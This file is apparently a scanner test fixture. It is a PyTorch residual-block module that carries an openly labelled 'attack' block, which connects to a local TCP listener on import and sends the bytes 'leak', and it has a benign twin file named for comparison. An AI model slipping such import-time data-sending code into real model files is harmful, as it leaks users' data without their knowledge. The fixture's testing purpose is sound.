"""Hostile: Connects to a TCP listener on 127.0.0.1.
Its benign twin is this file without the attack blocks (tests/test_hostile.py)."""
import torch
import torch.nn as nn

# >>> attack
import socket

socket.create_connection(("127.0.0.1", 47281), timeout=1).sendall(b"leak")
# <<< attack


class ResidualBlock(nn.Module):
    def __init__(self, in_channels):
        super().__init__()
        self.fc1 = nn.Linear(in_channels, in_channels)
        self.fc2 = nn.Linear(in_channels, in_channels)
        self.relu = nn.ReLU()

    def forward(self, x):
        out = self.relu(self.fc2(self.relu(self.fc1(x))) + x)
        return out
